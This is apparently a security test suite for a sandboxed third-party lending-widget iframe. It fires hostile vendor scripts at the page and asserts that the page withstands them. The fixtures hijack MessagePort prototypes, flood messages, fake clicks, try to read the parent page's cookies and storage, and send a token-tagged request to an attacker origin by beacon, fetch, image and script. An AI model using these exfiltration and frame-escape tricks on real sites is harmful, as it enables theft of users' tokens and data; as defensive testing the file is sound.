// Attacks over the frame's port and around it, by a vendor's script and by markup of the page. The page must ignore all of them.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { handOff, says, script, send, startVendor } from './vendor/servers.mjs';
import * as visit from './vendor/visit.mjs';
import { DIST } from '../support/dist.mjs';

const { notes, offersOf, outcome } = visit;

const frameScript = () => fs.readFileSync(path.join(DIST, 'cdn/frame.js'), 'utf8');
/** Runs before the library's own script in the frame, which a vendor's script cannot: keeps the port. */
const TAKE_PORT = `
  const { postMessage } = MessagePort.prototype;
  const port = new Promise((resolve) => {
    MessagePort.prototype.postMessage = function (...all) { resolve(this); return postMessage.apply(this, all); };
  });`;
/** Attacks with the port, and delays the widget's start until the attack is over. */
const withPort = (attack) => `
  ${script()
    .replace('init(', 'async init(')
    .replace(
      '{ token, container }) {',
      `$&
    container.append(Object.assign(document.createElement('p'), { textContent: 'soon' }));
    const say = postMessage.bind(await port);
    ${attack}
  `,
    )}`;

const GARBAGE = `[null, undefined, 0, -1, 1n, '', 'ready', 'failed', [], ['ready'], {}, { type: null }, { type: {} }, { type: 'Ready' },
  { type: 'constructor' }, { type: 'heights' }, ...[NaN, '900px', {}, [7], -9, -Infinity].map((box) => ({ type: 'heights', box, frame: box })),
  { type: 'dialog' }, { type: 'dialog', isOpen: {} }, { type: 'escape' }, { type: 'print' }, new Map([['type', 'ready']]), new ArrayBuffer(8), new Error('x')]`;

describe('a frame that contains an attack', { timeout: 120_000 }, () => {
  let all;
  let attacker;
  before(async () => ([all, attacker] = await Promise.all([visit.startAll(), startVendor()])));
  after(async () => {
    await all?.close();
    attacker?.close();
  });

  /** Opens a page whose frame runs this script. One that attacks with the port gets it. */
  async function opening(source, run, { settings, tokens, ...page } = {}) {
    const armed = { script: (response) => send(response, TAKE_PORT + frameScript()) };
    const faults = source.includes('await port') ? armed : {};
    await all.withScript(says(source), { mode: 'frame', settings, faults, each: [{ tokens }], ...page }, run);
  }
  async function visiting(source, run, more) {
    const visit = async (page, problems) => {
      await run(page, await outcome(page));
      assert.deepEqual([(await notes(page)).problems, problems], [[], []]);
    };
    await opening(source, visit, more);
  }
  /** Returns the height of the frame’s box after the page has processed all messages. */
  const heightOf = (page) =>
    page.$eval('lending-widget > div', async ({ shadowRoot }) => {
      for (let at = 0; at < 2; at++) await new Promise(requestAnimationFrame);
      return shadowRoot.firstChild.shadowRoot.querySelector('.box').offsetHeight;
    });

  it('ignores data that is not a message, and continues', async () => {
    await visiting(withPort(`${GARBAGE}.forEach((one) => say(one));`), async (page, told) => {
      assert.equal(told.type, 'lending-ready');
      assert.deepEqual(await offersOf(page, 'frame'), ['Offers for token-1']);
      const height = await heightOf(page);
      assert.ok(height > 0 && height < 200, `It is ${height} pixels high.`);
    });
  });

  it('limits the height of the frame', async () => {
    const attack = `setInterval(() => say({ type: 'heights', frame: 1e12, box: 1e12 }), 20);`;
    await visiting(withPort(attack), async (page, told) => {
      assert.equal(told.type, 'lending-ready');
      assert.equal(await heightOf(page), 20_000);
    });
  });

  const FAILURES = {
    'a code of another part': [`code: 'handler-signed-out', message: 'x'`, 'widget-failed'],
    'a code that every object has': [`code: 'constructor', message: 'x'`, 'widget-failed'],
    'a code that is not a string': [`code: ['script-failed'], message: 'x'`, 'widget-failed'],
    'a message that is an object': [`code: 'script-failed', message: { length: 9 }`, 'script-failed'],
    'a remedy that is an object': [`code: 'script-failed', message: 'x', remedy: { slice: 1 }`, 'script-failed'],
    'texts without an end': [
      `code: 'widget-failed', message: 'x'.repeat(1e6), remedy: 'y'.repeat(1e6), recoverable: 'yes'`,
      'widget-failed',
    ],
  };
  for (const [name, [fields, code]] of Object.entries(FAILURES)) {
    it(`causes a typed error for ${name}`, async () => {
      const attack = `say({ type: 'failed', ${fields} }); await new Promise(() => undefined);`;
      await visiting(withPort(attack), async (page, told) => {
        assert.equal(told.code, code);
        assert.ok(told.message.length <= 300, `${told.message.length} characters`);
        assert.ok(told.remedy.length > 0 && told.remedy.length <= 300);
        assert.equal(told.recoverable, false);
        assert.equal(await page.$('>>> iframe'), null);
      });
    });
  }

  const asking = `globalThis.VendorFunding = {
    async init(getToken, container) {
      const answers = await Promise.allSettled([getToken(), getToken()]);
      const last = await Promise.allSettled([getToken()]);
      const text = [...answers, ...last].map(({ value = 'none', reason }) => reason ? reason.code : value).join();
      container.append(Object.assign(document.createElement('p'), { className: 'offers', textContent: text }));
    },
  };`;
  const settings = {
    handOff: { ...handOff(), calls: [{ method: 'init', arguments: ['{get_token}', '{container}'] }] },
  };

  it('gets another token at each request, and the same token for two simultaneous requests', async () => {
    const more = { settings, tokens: ['token-1', 'token-2', 'token-3'] };
    await visiting(
      asking,
      async (page) => assert.deepEqual(await offersOf(page, 'frame'), ['token-2,token-2,token-3']),
      more,
    );
  });

  it('gets an error when the backend returns no token, and causes no unhandled rejection in the page', async () => {
    const more = { settings, tokens: ['token-1', null] };
    await visiting(
      asking,
      async (page) => assert.deepEqual(await offersOf(page, 'frame'), ['widget-failed,widget-failed,widget-failed']),
      more,
    );
  });

  const spoof = `
    const got = [];
    addEventListener('message', (event) => got.push(event.ports.length));
    for (let n = 0; n < 20; n++) parent.postMessage('lending-frame', '*');`;

  it('gets no second port if it reports again that it is ready', async () => {
    const waiting = `await new Promise((resolve) => setTimeout(resolve, 500)); token = token + ' ' + got.join();`;
    const source = `${spoof} ${script().replace('init(', 'async init(').replace('{ token, container }) {', `$& ${waiting}`)}`;
    await visiting(source, async (page) => assert.deepEqual(await offersOf(page, 'frame'), ['Offers for token-1']));
  });

  it('is the only frame that gets a port, even if another frame of the page asks', async () => {
    const nagging = `${spoof} setInterval(() => {
      parent.postMessage('lending-frame', '*');
      document.title = got.join();
    });`;
    attacker.on('/frame', (response) => send(response, `<script>${nagging}</script>`, { 'content-type': 'text/html' }));
    const inside = `<iframe sandbox="allow-scripts" id="other" src="${attacker.origin}/frame"></iframe>`;
    const body = `${inside}<lending-widget></lending-widget>`;
    await visiting(
      script(),
      async (page) => {
        assert.deepEqual(await offersOf(page, 'frame'), ['Offers for token-1']);
        const other = await (await page.$('#other')).contentFrame();
        assert.equal(await other.title(), '');
      },
      { body },
    );
  });

  const ALWAYS = `setInterval(() => { say({ type: 'touched' }); say({ type: 'dialog', isOpen: true }); say({ type: 'print' }); }, 50);`;

  it('covers the window only after a press by the applicant, whatever it reports', async () => {
    await opening(withPort(ALWAYS), async (page) => {
      // Puppeteer's own evaluate() counts as a press.
      const session = await page.createCDPSession();
      const expression = `!!document.querySelector('lending-widget > div')?.shadowRoot?.firstChild.shadowRoot.querySelector(':modal')`;
      const look = async () => (await session.send('Runtime.evaluate', { expression })).result.value;
      await new Promise((resolve) => setTimeout(resolve, 2000));
      assert.equal(await look(), false);
      await page.mouse.click(100, 150);
      await new Promise((resolve) => setTimeout(resolve, 500));
      assert.equal(await look(), true);
    });
  });

  it('does not cover the window after a press in the page, since a vendor’s script cannot fake a press in the frame', async () => {
    const source = script().replace(
      '{ token, container }) {',
      `$& const layer = document.createElement('div');
        layer.style.cssText = 'position: fixed; inset: 0; background: white';
        document.body.append(layer, 'Sign in');
        const press = () => {
          for (const type of ['pointerdown', 'keydown', 'click']) document.body.dispatchEvent(new Event(type, { bubbles: true }));
        };
        setInterval(press, 50);`,
    );
    await visiting(source, async (page) => {
      await page.click('#counter');
      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 1500)));
      assert.equal(await page.$('>>> :modal'), null);
    });
  });

  it('does not give its port to a script of the vendor', async () => {
    const spy = `
      const taken = [];
      for (const { prototype } of [MessagePort, EventTarget, Promise, Map, Function, MessageEvent]) {
        for (const [name, { value, get }] of Object.entries(Object.getOwnPropertyDescriptors(prototype))) {
          const original = value ?? get;
          if (name === 'constructor' || typeof original !== 'function') continue;
          const spying = function (...all) {
            for (const one of [this, ...all]) if (one instanceof MessagePort) taken.push(name);
            return Reflect.apply(original, this, all);
          };
          Object.defineProperty(prototype, name, value ? { value: spying } : { get: spying });
        }
      }
      ${script().replace('init(', 'async init(').replace('{ token, container }) {', `$& container.append('soon'); await new Promise((resolve) => setTimeout(resolve, 800)); token += ' ' + taken.join();`)}`;
    await visiting(spy, async (page) => assert.deepEqual(await offersOf(page, 'frame'), ['Offers for token-1']));
  });

  it('sends nothing to another origin, except the URL of a script', async () => {
    const WAYS = {
      beacon: 'navigator.sendBeacon(at, "x")',
      fetch: 'fetch(at).catch(() => undefined)',
      image: 'new Image().src = at',
      ping: 'Object.assign(document.createElement("a"), { href: "#", ping: at }).click()',
      prefetch: 'link("prefetch")',
      preload: 'Object.assign(link("preload"), { as: "fetch" })',
      icon: 'link("icon")',
      // Scripts of the vendor's may load others: 'strict-dynamic'. It takes no list of origins.
      script: 'document.head.append(Object.assign(document.createElement("script"), { src: at }))',
    };
    const run = Object.entries(WAYS).map(([name, way]) => `{ const at = '${attacker.origin}/${name}?token'; ${way}; }`);
    const link = `const link = (rel) => document.head.appendChild(Object.assign(document.createElement('link'), { rel, href: at }));`;
    const ways = run.map((one) => one.replace('{ const', `{ ${one.includes('link(') ? link : ''} const`)).join('\n');
    await visiting(`${script()} ${ways}`, async (page) => {
      assert.deepEqual(await offersOf(page, 'frame'), ['Offers for token-1']);
      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
      const reached = Object.keys(WAYS).filter((name) => attacker.asked(`/${name}`) > 0);
      assert.deepEqual(reached, ['script']);
    });
  });

  it('reaches neither the page, nor its cookies, nor another frame', async () => {
    const loot = `globalThis.VendorFunding = { init({ container }) {
      const attempt = (what) => { try { return String(what()); } catch (error) { return error.name; } };
      const tried = [
        attempt(() => parent.document.title),
        attempt(() => top.location.href),
        attempt(() => parent.frames[0].document.body.textContent),
        attempt(() => document.cookie),
        attempt(() => localStorage.length),
        self.origin,
      ];
      container.append(Object.assign(document.createElement('p'), { className: 'offers', textContent: tried.join() }));
    } };`;
    const canaries = () => {
      if (self !== top) return;
      document.cookie = 'canary=1';
      localStorage.setItem('canary', '1');
    };
    const body = '<iframe srcdoc="canary"></iframe><lending-widget></lending-widget>';
    const more = { body, settings: { withoutToken: true }, open: (page) => page.evaluateOnNewDocument(canaries) };
    const seen = 'SecurityError,SecurityError,SecurityError,,0,null';
    await visiting(
      loot,
      async (page) => {
        assert.deepEqual(await offersOf(page, 'frame'), [seen]);
        const [sandbox, url] = await page.$eval('>>> [sandbox]', (frame) => [String(frame.sandbox), frame.src]);
        assert.doesNotMatch(sandbox, /allow-same-origin|allow-top-navigation/);
        assert.match(url, /\/frames\/\d+\/frame$/);
      },
      more,
    );
  });

  it('is not loaded from another origin because of a <base> in the page', async () => {
    const before = attacker.asked('/frames');
    const body = `<base href="${attacker.origin}/"><lending-widget></lending-widget>`;
    await visiting(script(), async (page) => assert.deepEqual(await offersOf(page, 'frame'), ['Offers for token-1']), {
      body,
    });
    assert.equal(attacker.asked('/frames'), before);
  });
});
